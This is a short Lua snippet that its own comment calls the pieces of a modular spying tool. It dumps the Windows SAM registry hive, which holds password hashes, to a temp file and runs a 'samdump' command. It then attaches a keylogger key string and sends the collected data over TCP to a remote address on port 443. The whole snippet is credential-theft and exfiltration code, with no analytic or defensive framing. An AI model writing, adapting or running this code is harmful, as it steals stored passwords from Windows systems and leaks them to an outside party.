-- Shapes of a modular spying tool: its own exec2str, an agent for stored passwords, a key log, a coded report.
local out = w.exec2str("regedit /e C:\\Windows\\Temp\\sam.reg HKEY_LOCAL_MACHINE\\SAM")
w.exec("samdump")
local key = "SAURON_KBLOG_KEY = 192.0.2.21"
local socket = require("socket")
local c = socket.tcp()
c:connect("192.0.2.21", 443)
c:send(out .. key)
